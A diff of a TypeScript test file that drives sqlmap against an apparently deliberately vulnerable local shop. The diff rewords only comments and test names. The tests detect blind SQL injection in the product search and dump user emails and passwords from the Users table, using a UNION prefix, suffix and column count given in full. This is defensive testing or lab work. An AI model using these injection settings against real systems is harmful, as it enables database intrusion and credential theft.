@@ -6,7 +6,7 @@ import { findTool, makeScratch, type Scratch, startTool } from './tools.ts';
 
 const sqlmap = findTool('sqlmap', 'apt-get install sqlmap');
 
-/** Longest run of the tool, in milliseconds. */
+/** The longest run of the tool, in milliseconds. */
 const patience = 120_000;
 
 describe.skipIf(sqlmap.path === null)('sqlmap', () => {
@@ -21,7 +21,7 @@ describe.skipIf(sqlmap.path === null)('sqlmap', () => {
     scratch?.remove();
   });
 
-  /** Points the tool at the product search, answers all of its questions with the default, and returns what it printed. */
+  /** Points the tool at the product search, accepts the default answer to all its questions, and returns its output. */
   async function attack(...flags: readonly string[]): Promise<string> {
     const run = startTool(sqlmap, scratch, [
       ...['-u', `${shop.url}/rest/products/search?q=apple`, '-p', 'q', '--batch', '--disable-coloring'],
@@ -34,15 +34,15 @@ describe.skipIf(sqlmap.path === null)('sqlmap', () => {
     return run.output();
   }
 
-  it('finds out by itself that the product search is injectable', { timeout: patience + 5000 }, async () => {
+  it('finds out on its own that the product search is injectable', { timeout: patience + 5000 }, async () => {
     const printed = await attack('--technique=B');
     expect(printed).toContain('sqlmap identified the following injection point');
     expect(printed).toMatch(/Parameter: q \(GET\)\s+Type: boolean-based blind/);
     expect(printed).toContain('back-end DBMS: SQLite');
   });
 
-  it('dumps the users with the frame that walkthroughs give it', { timeout: patience + 5000 }, async () => {
-    // Short payloads, since the search looks at 200 characters only.
+  it('dumps the users with the prefix and suffix that walkthroughs suggest', { timeout: patience + 5000 }, async () => {
+    // Short payloads, since the search uses only 200 characters.
     const frame = ["--prefix='))", '--suffix=-- ', '--union-cols=9', '--union-char=1', '--no-escape'];
     await attack('--flush-session', '--technique=U', ...frame, '-T', 'Users', '-C', 'email,password', '--dump');
     const rows = dumped('Users.csv').split('\n');
